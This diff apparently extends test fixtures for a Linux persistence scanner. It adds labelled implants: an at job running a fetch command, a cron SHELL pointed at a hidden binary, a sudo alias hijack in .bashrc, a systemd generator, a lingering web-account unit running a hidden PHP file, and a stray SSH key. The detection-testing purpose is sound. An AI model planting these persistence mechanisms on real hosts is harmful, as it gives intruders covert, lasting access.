@@ -34,6 +34,19 @@ OnUnitActiveSec=1h
 [Install]
 WantedBy=timers.target
 """
+# As at(1) writes a job: the environment of whoever queued it, then the commands.
+_AT_JOB: Final = f"""#!/bin/sh
+# atrun uid=33 gid=33
+# mail www-data 0
+umask 22
+HOME=/var/www; export HOME
+cd /var/www || {{
+\t echo 'Execution directory inaccessible' >&2
+\t exit 1
+}}
+{_FETCH}
+"""
+_LINGERING: Final = "/var/www/.config/systemd/user/session.service"
 
 
 def _service(title: str, command: str) -> str:
@@ -154,6 +167,52 @@ IMPLANTS: Final = (
         written(
             "/etc/udev/rules.d/75-persist.rules",
             'ACTION=="add", SUBSYSTEM=="block", RUN+="/bin/sh -c \'/var/tmp/.cache/kworker &\'"\n',
+        ),
+    ),
+    Implant(
+        "/var/spool/cron/atjobs/a0000101c5f2a1",
+        "a job that runs once more, tomorrow",
+        "persistence-at-job",
+        written("/var/spool/cron/atjobs/a0000101c5f2a1", _AT_JOB, 0o700, WWW_DATA),
+    ),
+    Implant(
+        "/etc/cron.d/php",
+        "a shell of his own for the jobs of a package",
+        "persistence-cron-variable",
+        lambda disk: disk.prepend("/etc/cron.d/php", "SHELL=/var/tmp/.cache/kworker\n", NIGHT),
+    ),
+    Implant(
+        "/home/bruno/.bashrc",
+        "another command in the place of sudo",
+        "persistence-command-replaced",
+        appended("/home/bruno/.bashrc", "alias sudo='/home/bruno/.cache/bash -p sudo'\n"),
+    ),
+    Implant(
+        "/etc/systemd/system-generators/systemd-locale-generator",
+        "a script that systemd runs before all else",
+        "persistence-generator-unowned",
+        written(
+            "/etc/systemd/system-generators/systemd-locale-generator",
+            "#!/bin/sh\nexit 0\n",
+            0o755,
+        ),
+    ),
+    Implant(
+        _LINGERING,
+        "a unit of the web server's account, started without a login",
+        "persistence-unit-from-writable",
+        together(
+            written(_LINGERING, _service("Session", "/usr/bin/php /var/www/.s"), owner=WWW_DATA),
+            written("/var/lib/systemd/linger/www-data", ""),
+        ),
+        also=("persistence-user-unit-lingers",),
+    ),
+    Implant(
+        "/usr/lib/games/.ssh/authorized_keys",
+        "a key where it waits for an account",
+        "persistence-authorized-key-outside-home",
+        lambda disk: disk.file(
+            "/usr/lib/games/.ssh/authorized_keys", f"{public_key('spare')} k@host\n", 0o600
         ),
     ),
 )
